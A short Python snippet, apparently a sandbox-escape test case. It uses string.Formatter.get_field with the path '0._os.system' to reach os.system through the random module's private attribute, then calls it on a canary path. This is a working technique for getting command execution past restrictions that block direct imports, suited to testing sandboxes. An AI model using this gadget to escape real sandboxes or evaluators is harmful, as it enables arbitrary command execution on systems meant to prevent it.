# reaches: string.Formatter.get_field returns the object itself
import random, string
found, _ = string.Formatter().get_field("0._os.system", (random,), {})
found("/srv/canary")
